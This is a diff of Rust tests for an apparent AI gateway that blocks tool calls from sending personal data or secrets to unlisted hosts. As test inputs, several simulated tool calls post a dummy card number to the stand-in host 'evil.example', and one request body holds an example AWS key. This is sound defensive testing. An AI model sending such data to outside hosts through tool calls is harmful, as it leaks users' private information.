@@ -187,3 +187,137 @@ fn rules_on_calls_are_refused_where_calls_leave_before_they_are_judged() {
         assert_eq!((code, &said["error"]["code"]), (6, &json!("POLICY_UNENFORCEABLE")), "{said}");
     }
 }
+
+const EXPORT: &str = r#"version: 1
+name: export
+defaults: { verdict: allow }
+detectors:
+  pii: { mode: shadow }
+rules:
+- id: no-export
+  when: { tool: "*", data: pii.*, destination_not: crm.example.com }
+  verdict: block
+  reason: EGRESS_DENIED
+"#;
+/// Made for tests; no bank knows it.
+const CARD: &str = "4111 1111 1111 1111";
+
+fn posting(host: &str, text: &str) -> String {
+    json!({ "url": format!("https://{host}/in"), "text": text }).to_string()
+}
+
+fn mcp_reply() -> Script {
+    let result = r#"{"jsonrpc":"2.0","id":1,"result":{"content":[]}}"#;
+    Script::always(Reply::new(Body::Text(result.into())).header("content-type", "application/json"))
+}
+
+fn mcp_call(arguments: &str) -> String {
+    format!(
+        r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"send","arguments":{arguments}}}}}"#
+    )
+}
+
+#[test]
+fn personal_data_does_not_leave_for_a_host_that_is_not_listed_in_a_call_of_a_servers_tool() {
+    let world = world(EXPORT, mcp_reply());
+    let send = |host: &str, text: &str| world.send(&post("/mcp", &mcp_call(&posting(host, text))));
+    assert_eq!(send("evil.example", "nothing in it").status(), 200);
+    assert_eq!(send("crm.example.com", CARD).status(), 200);
+    let passed = world.upstream.hits().total();
+    let refused = send("evil.example", CARD);
+    assert_eq!(refused.status(), 403);
+    let error: Value = serde_json::from_slice(&refused.body).unwrap();
+    assert_eq!(error["error"]["data"]["code"], "EGRESS_DENIED");
+    assert_eq!(world.upstream.hits().total(), passed);
+    let receipts = world.receipts("rules");
+    let blocked = |receipt: &&Value| receipt["verdict"]["action"] == "block";
+    let receipt = receipts.iter().find(blocked).unwrap();
+    assert_eq!(receipt["policy"]["rule"], "no-export");
+    assert_eq!(receipt["data_class"], json!(["pii.card"]));
+    assert_eq!(receipt["destination"], "evil.example");
+    assert_eq!(receipt["ext"]["findings"].as_array().unwrap().len(), 1, "looked at once: {receipt}");
+    assert_eq!(receipts.iter().filter(blocked).count(), 1);
+}
+
+#[test]
+fn personal_data_does_not_leave_for_a_host_that_is_not_listed_in_a_call_of_a_models() {
+    for (path, dialect, stream) in SURFACES {
+        let name = format!("{dialect:?} {stream}");
+        let send = |host: &str, text: &str| {
+            let world = world(EXPORT, calling(dialect, &[("send", &posting(host, text))]));
+            let answer = given(&world, &ask(path, stream));
+            (answer.status(), answer.text(), world.receipts("rules").remove(0))
+        };
+        for (host, text) in [("evil.example", "nothing in it"), ("crm.example.com", CARD)] {
+            let (status, text, receipt) = send(host, text);
+            assert_eq!((status, &receipt["verdict"]["action"]), (200, &json!("allow")), "{name}: {text}");
+        }
+        let (status, text, receipt) = send("evil.example", CARD);
+        assert_eq!(status, if stream { 200 } else { 403 }, "{name}: {text}");
+        assert!(!text.contains("4111"), "{name}: {text}");
+        assert_eq!(receipt["verdict"]["reason"], "EGRESS_DENIED", "{name}: {receipt}");
+        assert_eq!(receipt["policy"]["rule"], "no-export", "{name}");
+        assert_eq!(receipt["data_class"], json!(["pii.card"]), "{name}: {receipt}");
+        assert_eq!(receipt["destination"], "evil.example", "{name}: {receipt}");
+    }
+}
+
+#[test]
+fn what_no_detector_looks_for_is_not_evaluated_and_a_rule_comes_before_a_detector() {
+    let send = |policy: &str, body: &str| {
+        let world = world(policy, mcp_reply());
+        let status = world.send(&post("/mcp", body)).status();
+        (status, world.receipts("rules").remove(0)["verdict"]["reason"].clone())
+    };
+    let with_card = mcp_call(&posting("evil.example", CARD));
+    let without = mcp_call(&posting("evil.example", "nothing in it"));
+    for detectors in ["{ secrets: {} }", "{ pii: { surfaces: [answer] } }", "{ pii: { except: [pii.*] } }"] {
+        let policy =
+            EXPORT.replace("detectors:\n  pii: { mode: shadow }", &format!("detectors: {detectors}"));
+        assert_ne!(policy, EXPORT);
+        for body in [&with_card, &without] {
+            assert_eq!(send(&policy, body), (403, json!("NOT_EVALUATED")), "{detectors}");
+        }
+    }
+    let enforced = EXPORT.replace("mode: shadow", "mode: enforce");
+    assert_eq!(send(&enforced, &with_card), (403, json!("EGRESS_DENIED")));
+    let listed = mcp_call(&posting("crm.example.com", CARD));
+    assert_eq!(send(&enforced, &listed), (403, json!("PII_FOUND")));
+}
+
+#[test]
+fn a_class_of_data_in_a_body_is_a_fact_for_rules() {
+    let policy = "version: 1
+name: bodies
+defaults: { verdict: allow }
+detectors:
+  secrets: { mode: shadow }
+rules:
+- { id: no-secrets, when: { data: secret.* }, verdict: block, reason: SECRET_LEAVES }
+";
+    let world = world(policy, Script::model());
+    let body = |text: &str| json!({ "model": "m", "messages": [{ "role": "user", "content": text }] });
+    let send = |path: &str, text: &str| world.send(&post(path, &body(text).to_string())).status();
+    for path in ["/v1/chat/completions", "/plain/x"] {
+        assert_eq!(send(path, "the key is AKIAIOSFODNN7EXAMPLE, keep it"), 403, "{path}");
+    }
+    assert_eq!(send("/v1/chat/completions", "there is no key"), 200);
+    let receipt = &world.receipts("rules")[0];
+    assert_eq!(receipt["verdict"]["reason"], "SECRET_LEAVES");
+    assert_eq!(receipt["data_class"], json!(["secret.aws_key"]));
+}
+
+#[test]
+fn each_message_of_a_batch_has_its_own_data() {
+    let policy = EXPORT.replace("mode: shadow", "mode: enforce");
+    let call = |host: &str, text: &str| mcp_call(&posting(host, text));
+    let shadow = world(EXPORT, mcp_reply());
+    let apart = format!("[{},{}]", call("evil.example", "nothing in it"), call("crm.example.com", CARD));
+    let answer = shadow.send(&post("/mcp", &apart));
+    assert!(!answer.text().contains("EGRESS_DENIED"), "{}", answer.text());
+    let one = format!("[{},{}]", call("crm.example.com", "nothing in it"), call("evil.example", CARD));
+    for policy in [EXPORT, &*policy] {
+        let answer = world(policy, mcp_reply()).send(&post("/mcp", &one));
+        assert!(answer.text().contains("EGRESS_DENIED"), "{}", answer.text());
+    }
+}
